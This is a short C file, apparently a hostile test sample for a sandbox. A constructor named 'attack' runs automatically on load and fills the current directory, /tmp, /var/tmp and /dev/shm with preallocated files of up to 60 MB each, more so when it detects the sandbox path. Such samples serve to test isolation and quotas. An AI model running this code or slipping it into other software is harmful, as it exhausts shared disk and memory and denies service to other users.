#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

/* Outside the box this is everybody's disk: there it takes half a gigabyte only. */
__attribute__((constructor)) static void attack(void)
{
    static const char *const folders[] = {".", "/tmp", "/var/tmp", "/dev/shm"};
    for (int i = 0; i < 8; i++)
        for (int folder = 0; folder < (access("/place", F_OK) == 0 ? 4 : 1); folder++) {
            char name[64];
            snprintf(name, sizeof name, "%s/left-behind-%d-%d", folders[folder], (int)getpid(), i);
            int file = open(name, O_WRONLY | O_CREAT, 0600);
            for (off_t at = 0; at < 60 << 20; at += 1 << 20)
                if (posix_fallocate(file, at, 1 << 20) != 0)
                    break;
            close(file);
        }
}
